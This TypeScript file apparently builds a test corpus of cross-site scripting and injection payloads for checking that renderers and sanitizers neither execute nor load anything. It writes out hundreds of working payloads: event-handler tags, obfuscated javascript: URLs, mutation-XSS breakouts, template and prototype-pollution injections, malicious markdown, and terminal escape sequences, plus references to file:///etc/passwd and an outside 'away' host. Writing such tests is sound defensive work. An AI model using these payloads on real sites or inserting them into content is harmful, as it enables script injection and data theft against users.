// Text that tries to become program: families of tags, handlers, addresses, markdown and escapes, made from short lists so that each
// combination is there. Whatever of it runs sets `top.__ran`; whatever of it loads asks the address `away`.
import { morePayloads } from './more-payloads.ts';

const tags = [
  ...['img src=x', 'svg', 'svg><g', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus'],
  ...['select autofocus', 'textarea autofocus', 'marquee', 'iframe', 'object data=x', 'a href=# tabindex=0'],
  ...[
    'div tabindex=0 contenteditable',
    'math',
    'style',
    'link rel=stylesheet href=x',
    'video><source',
    'x-y id=x',
  ],
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onpointerenter',
  'onanimationstart',
];

const run = 'top.__ran=1,alert(1)';

function handled(): string[] {
  return tags.flatMap((tag) => handlers.map((on) => `<${tag} ${on}="${run}">`));
}

function addresses(away: string): string[] {
  return [
    ...[`javascript:${run}`, `JaVaScRiPt:${run}`, `java\tscript:${run}`, ` \u0001javascript:${run}`],
    ...[
      `javascript&colon;${run}`,
      `&#106;avascript:${run}`,
      `&#x6A&#x61vascript:${run}`,
      `%6Aavascript:${run}`,
    ],
    ...[`javascript://%0a${run}`, `vbscript:${run}`, `data:text/html,<script>${run}</script>`],
    ...[
      `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
      `view-source:javascript:${run}`,
    ],
    ...[`${away}/pixel.gif?x`, `//${new URL(away).host}/pixel.gif`, 'file:///etc/passwd', 'blob:null/x'],
  ];
}

function linked(away: string): string[] {
  return addresses(away).flatMap((address) => [
    `[link](${address})`,
    `[link](<${address}> "title")`,
    `![picture](${address})`,
    `<${address}>`,
    `<a href="${address}">a</a>`,
    `<img src="${address}">`,
    `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  ]);
}

function scripts(away: string): string[] {
  const script = `<script>${run}</script>`;
  return [
    script,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script/src=${away}/x.js></script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script\n>${run}</script\n>`,
    `<svg><script>${run}</script></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template>${script}</template>`,
    `<iframe srcdoc="${script}"></iframe>`,
    `<iframe src="${away}/frame"></iframe>`,
    `<base href="${away}/">`,
    `<meta http-equiv=refresh content="0;url=${away}/gone">`,
    `<link rel=stylesheet href="${away}/x.css">`,
    `<link rel=prefetch href="${away}/x">`,
    `<link rel=dns-prefetch href="//xss.invalid">`,
    `<object data="${away}/x.swf"></object>`,
    `<embed src="${away}/x">`,
    `<form action="${away}/form"><button autofocus>go</button></form>`,
    `<form id=x></form><button form=x formaction="javascript:${run}">go</button>`,
    `<video poster="${away}/poster.png" autoplay></video>`,
    `<body background="${away}/b.png">`,
    `<table background="${away}/b.png"><td background="javascript:${run}">x</table>`,
    `<div style="background:url(${away}/b.png)">x</div>`,
    `<style>@import '${away}/x.css';*{background:url(${away}/b)}</style>`,
    `<div style="width:expression(${run})">x</div>`,
    ...[
      '"',
      "'",
      '`',
      '</title>',
      '</textarea>',
      '</style>',
      '-->',
      ']]>',
      '</code></pre>',
      '\\"',
      '%22',
      '\u2028',
    ].map((end) => `${end}><img src=x onerror=${run}>${script}`),
    ...['" onfocus="', "' onfocus='", '" autofocus onfocus="'].map((out) => `x${out}${run}`),
    ...[
      `\${${run}}`,
      `{{constructor.constructor('${run}')()}}`,
      `{{${run}}}`,
      `<%= ${run} %>`,
      `\`\${${run}}\``,
    ],
    ...[
      `__proto__[innerHTML]=<img src=x onerror=${run}>`,
      `<img src=x onerror&#61;${run}>`,
      `<img/src=x/onerror=${run}//`,
    ],
    ...[
      `&lt;img src=x onerror=${run}&gt;`,
      `&#60;script&#62;${run}&#60;/script&#62;`,
      `\\x3cscript\\x3e${run}`,
    ],
    ...[
      `\u202e<script>${run}</script>`,
      `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
      `\0<script\0>${run}</script>`,
    ],
  ];
}

function written(away: string): string[] {
  return [
    `[x]: javascript:${run} "title"\n[x]`,
    `[![both](javascript:${run})](javascript:${run})`,
    `[a](javascript:${run}\n"b")`,
    `![x][pic]\n\n[pic]: ${away}/reference.png`,
    `$\\href{javascript:${run}}{x}$ and $$\\includegraphics{${away}/x}$$`,
    `| <img src=x onerror=${run}> | [x](javascript:${run}) |\n|---|---|\n| \`<script>${run}</script>\` | ![x](${away}/t.png) |`,
    `- [ ] <input onfocus=${run} autofocus>\n- [x] [x](javascript:${run})`,
    `# <img src=x onerror=${run}> {#id onclick=${run}}`,
    `> <details open ontoggle=${run}>`,
    `[^1]\n\n[^1]: <img src=x onerror=${run}>`,
    `www.evil.invalid/"onmouseover="${run}`,
    `https://evil.invalid/"onmouseover="${run}//`,
    `<https://evil.invalid/'><img src=x onerror=${run}>`,
    `a@b.invalid"><img src=x onerror=${run}>`,
    `\`\`\`html"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
    `\`\`\`js onload=${run}\n${run}\n\`\`\``,
    `~~~<script>${run}</script>\n${run}\n~~~`,
    `    <script>${run}</script>`,
    `<!-- --><script>${run}</script><!-- -->`,
    `<?xml version="1.0"?><script>${run}</script>`,
    `<![CDATA[<script>${run}</script>]]>`,
    `<br onload=${run}><br/onclick=${run}>`,
  ];
}

/** What terminals would do: links, titles, escapes that hide or never end. */
function escapes(away: string): string[] {
  const link = (address: string) => `\x1b]8;;${address}\x07press\x1b]8;;\x07`;
  return [
    ...addresses(away).slice(0, 13).map(link),
    `\x1b]0;<script>${run}</script>\x07`,
    `\x1b[31m<img src=x onerror=${run}>\x1b[0m`,
    `\x1b[38;2;"><script>${run}</script>m`,
    `\x1b]1337;File=inline=1:${away}/x\x07`,
    `\x1bP<script>${run}</script>\x1b\\`,
    `\x1b[<script>${run}</script>`,
    `\x9b31m<svg onload=${run}>`,
    `\r<img src=x onerror=${run}>\b\b`,
  ];
}

/** All of it; those that begin something that does not end come last. */
export function payloads(away: string): readonly string[] {
  const begun = [...escapes(away), ...written(away)];
  return [...new Set([...handled(), ...scripts(away), ...linked(away), ...morePayloads(away), ...begun])];
}

/** Such of it as fits into a name of so many characters, several to a name. */
export function names(away: string, most: number): readonly string[] {
  const found: string[] = [];
  for (const one of payloads(away)) {
    const line = one.replaceAll(/\p{Cc}/gu, ' ').trim();
    if (line === '' || line.length > most) continue;
    const before = found.at(-1);
    if (before === undefined || before.length + line.length >= most) found.push(line);
    else found[found.length - 1] = `${before} ${line}`;
  }
  return found;
}
